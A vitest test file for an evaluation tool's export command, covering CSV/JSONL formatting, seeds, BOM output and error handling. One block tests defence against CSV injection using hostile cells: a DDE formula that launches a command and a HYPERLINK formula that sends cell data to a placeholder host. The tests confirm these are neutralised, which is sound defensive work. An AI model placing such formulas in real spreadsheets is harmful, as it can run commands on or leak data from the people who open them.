/**
 * `agent-eval export`: one row per (run, measurement) with scenario, run id, seed, run directory,
 * score and unit; per-round and per-agent tables; RFC 4180 quoting; deterministic order.
 */
import { spawnSync } from "node:child_process";
import { existsSync, mkdirSync, readFileSync, readdirSync } from "node:fs";
import path from "node:path";
import { describe, expect, it } from "vitest";
import { exportTables, tableToCsv, tableToJsonl } from "../../src/report/export-tables.js";
import type { EvaluationReport } from "../../src/report/report.js";
import { serializeReport } from "../../src/report/report.js";
import { runBuilder, toJsonl } from "../../src/testing.js";
import { cli, tempDir, writeRun } from "../helpers/run-dirs.js";

function report(id: string, scenario: string, measurements: EvaluationReport["measurements"]): EvaluationReport {
  return {
    simulation_id: id,
    scenario_name: scenario,
    measurements,
    evaluation_cost: {
      usage: { input_tokens: 0, output_tokens: 0, cache_read_input_tokens: 0, cache_creation_input_tokens: 0 },
      estimated_cost_usd: 0,
      model: "none",
      provider_name: "none",
    },
  };
}

const TRICKY = report("sim-b", "veyru", [
  {
    metric_name: "round_success",
    score: 1,
    score_unit: "fraction of rounds succeeded (won/total)",
    summary: 'said "ok", twice\nthen stopped',
    per_round: [
      { round_number: 1, value: 1, note: "stabilized" },
      { round_number: 2, value: 0.30000000000000004, note: "a, b" },
    ],
    per_agent: [{ agent_id: "field_observer", value: 2, note: "" }],
  },
]);
const PLAIN = report("sim-a", "veyru", [{ metric_name: "message_entropy", score: 2.5, score_unit: "bits/char", summary: "s", per_round: [], per_agent: [] }]);
const OTHER = report("sim-0", "container_yard_stacking", [{ metric_name: "round_success", score: 0, score_unit: "u", summary: "", per_round: [], per_agent: [] }]);

describe("export tables", () => {
  const tables = exportTables([
    { runDir: "runs/veyru/b", report: TRICKY, seed: 42 },
    { runDir: "runs/veyru/a", report: PLAIN },
    { runDir: "runs/yard/x", report: OTHER, seed: "s-1" },
  ]);

  it("order runs by scenario, then run id, and quote fields as RFC 4180 says", () => {
    const [measurements, perRound, perAgent] = tables;
    expect(tableToCsv(measurements as never)).toBe(
      [
        "scenario,run_id,seed,run_dir,metric_name,score,score_unit,summary",
        "container_yard_stacking,sim-0,s-1,runs/yard/x,round_success,0.0,u,",
        "veyru,sim-a,,runs/veyru/a,message_entropy,2.5,bits/char,s",
        'veyru,sim-b,42,runs/veyru/b,round_success,1.0,fraction of rounds succeeded (won/total),"said ""ok"", twice\nthen stopped"',
        "",
      ].join("\r\n"),
    );
    expect(tableToCsv(perRound as never)).toBe(
      [
        "scenario,run_id,seed,run_dir,metric_name,round_number,value,note",
        "veyru,sim-b,42,runs/veyru/b,round_success,1,1.0,stabilized",
        'veyru,sim-b,42,runs/veyru/b,round_success,2,0.30000000000000004,"a, b"',
        "",
      ].join("\r\n"),
    );
    expect(tableToJsonl(perAgent as never)).toBe(
      '{"scenario":"veyru","run_id":"sim-b","seed":42,"run_dir":"runs/veyru/b","metric_name":"round_success","agent_id":"field_observer","value":2.0,"note":""}\n',
    );
    expect(tableToJsonl(measurements as never).split("\n")[1]).toBe(
      '{"scenario":"veyru","run_id":"sim-a","seed":null,"run_dir":"runs/veyru/a","metric_name":"message_entropy","score":2.5,"score_unit":"bits/char","summary":"s"}',
    );
  });

  const hasPython = spawnSync("python3", ["--version"]).status === 0;
  it.skipIf(!hasPython)(`read back by Python's csv module cell for cell${hasPython ? "" : " [skipped: python3 is not on PATH]"}`, () => {
    const csv = tableToCsv(tables[0] as never);
    const read = spawnSync("python3", ["-c", "import csv,io,json,sys; print(json.dumps(list(csv.reader(io.StringIO(sys.stdin.read(), newline='')))))"], {
      input: csv,
      encoding: "utf8",
    });
    const rows = JSON.parse(read.stdout) as string[][];
    expect(rows).toHaveLength(4);
    expect(rows[3]?.[7]).toBe('said "ok", twice\nthen stopped');
    expect(rows[3]?.[5]).toBe("1.0");
    expect(rows[2]?.[2]).toBe("");
  });
});

describe("export tables in a spreadsheet", () => {
  // OWASP, "CSV Injection": a cell starting with = + - @ tab or CR is run as a formula by Excel,
  // LibreOffice and Google Sheets; a leading apostrophe makes it text there
  const HOSTILE = report("=cmd|' /C calc'!A0", "veyru", [
    {
      metric_name: "round_success",
      score: -0.5,
      score_unit: "+units",
      summary: '=HYPERLINK("https://example.invalid/?d="&A1,"open")',
      per_round: [{ round_number: 1, value: -1, note: "@SUM(A1:A9)" }],
      per_agent: [
        { agent_id: "-2+3", value: 1, note: "\tleading tab" },
        { agent_id: "a=b", value: 1, note: "\rcarriage" },
      ],
    },
  ]);
  const [measurements, perRound, perAgent] = exportTables([{ runDir: "runs/x", report: HOSTILE, seed: "-7" }]);

  it("defuses text cells that start like a formula; numbers and JSON Lines are untouched", () => {
    expect(tableToCsv(measurements as never).split("\r\n")[1]).toBe(
      `veyru,'=cmd|' /C calc'!A0,-7,runs/x,round_success,-0.5,'+units,"'=HYPERLINK(""https://example.invalid/?d=""&A1,""open"")"`,
    );
    expect(tableToCsv(perRound as never).split("\r\n")[1]).toBe("veyru,'=cmd|' /C calc'!A0,-7,runs/x,round_success,1,-1.0,'@SUM(A1:A9)");
    expect(tableToCsv(perAgent as never).split("\r\n").slice(1, 3)).toEqual([
      "veyru,'=cmd|' /C calc'!A0,-7,runs/x,round_success,'-2+3,1.0,'\tleading tab",
      `veyru,'=cmd|' /C calc'!A0,-7,runs/x,round_success,a=b,1.0,"'\rcarriage"`,
    ]);
    expect(tableToJsonl(perAgent as never).split("\n")[0]).toBe(
      '{"scenario":"veyru","run_id":"=cmd|\' /C calc\'!A0","seed":"-7","run_dir":"runs/x","metric_name":"round_success","agent_id":"-2+3","value":1.0,"note":"\\tleading tab"}',
    );
  });
});

describe("export tables in a spreadsheet: text that is a number", () => {
  // a plain number cannot run anything, and an apostrophe would change what pandas reads
  const NUMERIC = report("sim-1", "veyru", [
    {
      metric_name: "m",
      score: 1,
      score_unit: "u",
      summary: "-1",
      per_round: [],
      per_agent: [
        { agent_id: "-3", value: -3, note: "+2" },
        { agent_id: "-1.5e-3", value: 0, note: "-.5" },
        { agent_id: "-2+3", value: 0, note: "-" },
        { agent_id: "+1 ", value: 0, note: "-1E+5" },
      ],
    },
  ]);
  const [measurements, , perAgent] = exportTables([{ runDir: "r", report: NUMERIC, seed: "-7" }]);

  it("keeps text cells that are plain numbers as they are, and still defuses the rest", () => {
    expect(tableToCsv(measurements as never).split("\r\n")[1]).toBe("veyru,sim-1,-7,r,m,1.0,u,-1");
    expect(tableToCsv(perAgent as never).split("\r\n").slice(1, 5)).toEqual([
      "veyru,sim-1,-7,r,m,-3,-3.0,+2",
      "veyru,sim-1,-7,r,m,-1.5e-3,0.0,-.5",
      "veyru,sim-1,-7,r,m,'-2+3,0.0,'-",
      "veyru,sim-1,-7,r,m,'+1 ,0.0,-1E+5",
    ]);
  });
});

describe("agent-eval export", () => {
  function veyruRun(seed: number, messages: string[]): string {
    return toJsonl(
      runBuilder({ scenario: "veyru", config: { seed } })
        .agent("field_observer")
        .round(1, (r) => {
          for (const text of messages) r.message("field_observer", text);
          r.result(true);
        })
        .build()
        .map((line) => (line.event_type === "simulation_started" ? { ...line, event_id: `sim-${seed}` } : line)),
    );
  }

  it("exports every run's report, with seeds from the logs, to stdout or to files", async () => {
    const root = tempDir();
    const runA = writeRun(root, "runs/veyru/1", { "veyru.jsonl": veyruRun(7, ["ab", "abc"]) });
    const runB = writeRun(root, "runs/veyru/2", { "veyru.jsonl": veyruRun(3, ["x y z"]) });
    for (const run of [runA, runB]) expect((await cli("evaluate", "--run-dir", run, "--metrics", "round_success,mean_chars_per_message")).code).toBe(0);

    const cwd = process.cwd();
    process.chdir(root);
    try {
      const stdout = await cli("export", "--reports", "runs");
      expect(stdout.code).toBe(0);
      expect(stdout.stdout.split("\r\n")).toEqual([
        "scenario,run_id,seed,run_dir,metric_name,score,score_unit,summary",
        expect.stringMatching(/^veyru,sim-3,3,runs\/veyru\/2,round_success,1\.0,/),
        expect.stringMatching(/^veyru,sim-3,3,runs\/veyru\/2,mean_chars_per_message,5\.0,chars\/message,/),
        expect.stringMatching(/^veyru,sim-7,7,runs\/veyru\/1,round_success,1\.0,/),
        expect.stringMatching(/^veyru,sim-7,7,runs\/veyru\/1,mean_chars_per_message,2\.5,chars\/message,/),
        "",
      ]);
      expect(stdout.stderr).toContain("per-round and per-agent tables are written with --out DIR");

      const files = await cli("export", "--run-dir", "runs/veyru/1", "--run-dir", "runs/veyru/2", "--format", "jsonl", "--out", "tables");
      expect(files.code).toBe(0);
      const perRound = readFileSync(path.join(root, "tables", "per_round.jsonl"), "utf8").trim().split("\n").map((l) => JSON.parse(l) as Record<string, unknown>);
      expect(perRound.map((r) => [r.run_id, r.metric_name, r.round_number, r.value])).toEqual([
        ["sim-3", "round_success", 1, 1],
        ["sim-3", "mean_chars_per_message", 1, 5],
        ["sim-7", "round_success", 1, 1],
        ["sim-7", "mean_chars_per_message", 1, 2.5],
      ]);
      expect(readFileSync(path.join(root, "tables", "per_agent.jsonl"), "utf8")).toBe("");
      // the same cohort reached another way exports the same bytes
      const again = await cli("export", "--reports", "runs/veyru", "--format", "jsonl", "--out", "tables2");
      expect(again.code).toBe(0);
      expect(readFileSync(path.join(root, "tables2", "measurements.jsonl"), "utf8")).toBe(readFileSync(path.join(root, "tables", "measurements.jsonl"), "utf8"));
    } finally {
      process.chdir(cwd);
    }
  });

  it("needs a source, and names a path without reports (exit 2)", async () => {
    expect((await cli("export")).code).toBe(2);
    const empty = await cli("export", "--reports", tempDir());
    expect(empty.code).toBe(2);
    expect(empty.stderr).toContain("no *_report.json found");
    const bad = await cli("export", "--run-dir", tempDir(), "--format", "xlsx");
    expect(bad.code).toBe(2);
  });

  it("--out naming a file says so in words (exit 2), and the file is left as it was", async () => {
    const root = tempDir();
    writeRun(root, "r", { "veyru_report.json": serializeReport(PLAIN), "tables.csv": "mine" });
    const out = path.join(root, "r", "tables.csv");
    const result = await cli("export", "--reports", path.join(root, "r"), "--out", out);
    expect(result.code).toBe(2);
    expect(result.stderr).toContain(`--out ${out}: cannot create the directory: it exists and is not a directory (EEXIST)`);
    expect(readFileSync(out, "utf8")).toBe("mine");
  });

  it("--out where one table cannot be written writes none of them (exit 2)", async () => {
    const root = tempDir();
    writeRun(root, "r", { "veyru_report.json": serializeReport(TRICKY) });
    const out = path.join(root, "tables");
    // the second table's name is taken by a directory: the first must not be left behind alone
    mkdirSync(path.join(out, "per_round.csv"), { recursive: true });
    const result = await cli("export", "--reports", path.join(root, "r"), "--out", out);
    expect(result.code).toBe(2);
    expect(result.stderr).toContain(`${path.join(out, "per_round.csv")}: cannot write it`);
    expect(readdirSync(out)).toEqual(["per_round.csv"]);
  });

  it.skipIf(!existsSync("/proc/self"))("--out in a place no directory can be made fails at once (exit 2) instead of looping", async () => {
    const root = tempDir();
    writeRun(root, "r", { "veyru_report.json": serializeReport(PLAIN) });
    // procfs answers ENOENT to mkdir, which sent Node's recursive mkdir into an endless loop
    const result = await cli("export", "--reports", path.join(root, "r"), "--out", "/proc/agent-eval-no-such/tables");
    expect(result.code).toBe(2);
    expect(result.stderr).toContain("--out /proc/agent-eval-no-such/tables: cannot create the directory");
  }, 10_000);

  it("writes a seed beyond 2^53 with the digits the event log holds (it was rounded: 12345678901234567891 -> ...7000)", async () => {
    const root = tempDir();
    // python3: int("12345678901234567891") is exact; float() of it is 1.2345678901234567e+19
    const seed = "12345678901234567891";
    const log = veyruRun(1, ["ab"]).replace('"seed":1', `"seed":${seed}`);
    expect(log).toContain(`"seed":${seed}`);
    const run = writeRun(root, "runs/big", { "veyru.jsonl": log });
    expect((await cli("evaluate", "--run-dir", run, "--metrics", "round_success")).code).toBe(0);
    const csv = await cli("export", "--run-dir", run);
    expect(csv.stdout.split("\r\n")[1]).toMatch(new RegExp(`^veyru,sim-1,${seed},`));
    const out = path.join(root, "t");
    expect((await cli("export", "--run-dir", run, "--format", "jsonl", "--out", out)).code).toBe(0);
    expect(readFileSync(path.join(out, "measurements.jsonl"), "utf8")).toContain(`"seed":${seed},`);
    // diff reads the seed the same way, to pair runs by it
    for (const format of ["json", "markdown", "text"]) {
      const diffed = await cli("diff", "--baseline", run, "--candidate", run, "--format", format);
      expect(diffed.stderr).not.toContain("BigInt");
      expect(diffed.code).not.toBe(2);
    }
  });

  it("--bom starts each CSV with a UTF-8 byte-order mark, for Excel; refused with JSON Lines (exit 2)", async () => {
    const root = tempDir();
    writeRun(root, "r", { "veyru_report.json": serializeReport(TRICKY) });
    const out = path.join(root, "t");
    const result = await cli("export", "--reports", path.join(root, "r"), "--bom", "--out", out);
    expect(result.code).toBe(0);
    for (const table of ["measurements", "per_round", "per_agent"]) {
      const bytes = readFileSync(path.join(out, `${table}.csv`));
      expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
      expect(bytes.subarray(3).toString("utf8")).toMatch(/^scenario,run_id,seed,run_dir,metric_name,/);
    }
    const stdout = await cli("export", "--reports", path.join(root, "r"), "--bom");
    expect(stdout.stdout.startsWith("\ufeffscenario,")).toBe(true);
    const jsonl = await cli("export", "--reports", path.join(root, "r"), "--bom", "--format", "jsonl");
    expect(jsonl.code).toBe(2);
    expect(jsonl.stderr).toContain("--bom applies to --format csv");
  });

  it("names a trial report given to it as one, not as a run report missing simulation_id (exit 2)", async () => {
    const file = path.resolve(import.meta.dirname, "../fixtures/trial-reports/capitals.report.json");
    const result = await cli("export", "--reports", file);
    expect(result.code).toBe(2);
    expect(result.stderr).toContain(`--reports ${file}: a trial report (agent-eval grade), where run reports (agent-eval evaluate) are expected`);
    expect(result.stderr).not.toContain("simulation_id");
  });

  it("exports a report file written by another tool", async () => {
    const root = tempDir();
    writeRun(root, "r", { "veyru_report.json": serializeReport(PLAIN) });
    const result = await cli("export", "--reports", path.join(root, "r", "veyru_report.json"));
    expect(result.code).toBe(0);
    expect(result.stdout).toContain(",message_entropy,2.5,bits/char,s\r\n");
  });
});
